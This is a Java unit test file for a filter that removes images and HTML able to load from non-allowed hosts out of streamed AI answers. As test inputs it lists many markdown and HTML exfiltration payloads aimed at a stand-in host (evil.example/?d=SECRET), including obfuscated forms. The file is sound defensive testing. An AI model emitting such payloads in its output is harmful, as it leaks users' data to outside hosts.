package dev.turnpike.policy;

import static org.assertj.core.api.Assertions.assertThat;

import dev.turnpike.access.NamePatterns;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class AnswerImagesTest {
    private static final NamePatterns HOSTS = NamePatterns.parse("cdn.example.com,*.pics.example");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Plain text! With a [link](https://evil.example/x) and 1 < 2, a<b, x <- y.",
                "![ours](https://cdn.example.com/a.png?x=1 \"title\") and ![too](https://a.pics.example/b)",
                "![beside](images/a.png) ![inline](data:image/png;base64,iVBORw0KGgo=)",
                "`if (!x[0]) return;` and !important, ![not an image",
                "<b>bold</b> <br> <p> <a href=\"https://docs.example\">docs</a> List<String> x = y; i<n;i++",
                "Ends with !",
                "Ends with <",
                "[![alt](https://cdn.example.com/a)](https://elsewhere.example)"
            })
    void whatLoadsNothingFromElsewhereIsLeftAsItIs(String text) {
        String shown = inPieces(text, 3);
        assertThat(shown.replace("&lt;", "<"))
                .isEqualTo(text.replace("![not an", "[not an").replaceFirst("with !$", "with "));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![x](https://evil.example/?d=SECRET)",
                "![x](<https://evil.example/?d=SECRET>)",
                "![x]( https://evil.example/?d=SECRET \"t\")",
                "![x](http://cdn.example.com/?d=SECRET)",
                "![x](//evil.example/?d=SECRET)",
                "![x](\\\\evil.example/?d=SECRET)",
                "![x](https&#58;//evil.example/?d=SECRET)",
                "![x](https:&#47;/evil.example/?d=SECRET)",
                "![x](https://cdn.example.com@evil.example/?d=SECRET)",
                "![x](https://cdn.example.com.evil.example/?d=SECRET)",
                "![x](HTTPS://EVIL.EXAMPLE/?d=SECRET)",
                "![a[b]c](https://evil.example/?d=SECRET)",
                "![a\\]b](https://evil.example/?d=SECRET)",
                "[![x](https://evil.example/?d=SECRET)](https://cdn.example.com)",
                "![](ftp://evil.example/SECRET)",
                "<img src=\"https://evil.example/?d=SECRET\">",
                "<IMG\nSRC='https://evil.example/?d=SECRET'/>",
                "<img src=//evil.example/SECRET>",
                "<picture><source srcset=\"https://evil.example/SECRET\"></picture>",
                "<iframe src=\"https://evil.example/SECRET\"></iframe>",
                "<video poster=https://evil.example/SECRET>",
                "<link rel=stylesheet href=https://evil.example/SECRET>",
                "<object data=https://evil.example/SECRET>",
                "<svg><image href=\"https://evil.example/SECRET\"/></svg>",
                "<body background=https://evil.example/SECRET>",
                "<script src=https://evil.example/SECRET></script>",
                "![x](https://evil.example/?d=SECRET \"](a.png )\")",
                "![![x](https://evil.example/?d=SECRET)](a b)",
                "![x](a.png \"![y](https://evil.example/SECRET)\")",
                "<div style=\"background:url(https://evil.example/SECRET)\">",
                "<a href=\"#\" style=\"background:url(https://evil.example/SECRET)\">"
            })
    void whatWouldLoadFromElsewhereIsTakenOut(String image) {
        for (int size = 1; size <= image.length(); size += 5) {
            var images = AnswerImages.from(HOSTS);
            String shown = inPieces(images, "Before " + image + " after.", size);
            assertThat(shown)
                    .startsWith("Before ")
                    .endsWith(" after.")
                    .doesNotContain("SECRET")
                    .contains("[image not shown]");
            assertThat(images.removed()).hasSizeGreaterThanOrEqualTo(1);
        }
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
        ![x][ref] and [ref]: https://evil.example/S | [x][ref] and [ref]: https://evil.example/S
        ![ref] alone                                | [ref] alone
        ![x](https://evil.example/never closed      | [x](https://evil.example/never closed
        <img src=https://evil.example/x             | &lt;img src=https://evil.example/x
        <style>@import "//evil.example"</style>     | &lt;style>@import "//evil.example"&lt;/style>
        <script>fetch("//evil.example")</script>    | &lt;script>fetch("//evil.example")&lt;/script>
        """)
    void whatIsNoWholeImageBecomesTextOrALink(String text, String expected) {
        assertThat(inPieces(text, 4)).isEqualTo(expected);
    }

    @Test
    void aTagThatHidesItsEndIsATagNoMore() {
        String shown = inPieces("<b title=\">\" style=\"background:url(//evil.example/x)\">bold", 7);

        assertThat(shown).startsWith("[image not shown]").doesNotContain("<");
    }

    @Test
    void onlyWhatMayBecomeAnImageIsHeldBack() {
        var images = AnswerImages.from(HOSTS);
        assertThat(images.next("Hello ")).isEqualTo("Hello ");
        assertThat(images.next("there!")).isEqualTo("there");
        assertThat(images.next(" Look: ![al")).isEqualTo("! Look: ");
        assertThat(images.next("t](https://cdn.example.com/a)")).isEqualTo("![alt](https://cdn.example.com/a)");
        assertThat(images.next("![")).isEmpty();
        assertThat(images.next("x".repeat(5_000))).as("no image is so long").startsWith("[xxx");
        assertThat(images.end()).isEmpty();
    }

    @Test
    void whereNothingIsWatchedNothingIsHeldBack() {
        var images = AnswerImages.any();
        assertThat(images.next("![x](https://evil.example/")).isEqualTo("![x](https://evil.example/");
        assertThat(images.end()).isEmpty();
    }

    private static String inPieces(String text, int size) {
        return inPieces(AnswerImages.from(HOSTS), text, size);
    }

    private static String inPieces(AnswerImages images, String text, int size) {
        var shown = new StringBuilder();
        for (int at = 0; at < text.length(); at += size) {
            shown.append(images.next(text.substring(at, Math.min(text.length(), at + size))));
        }
        return shown.append(images.end()).toString();
    }
}
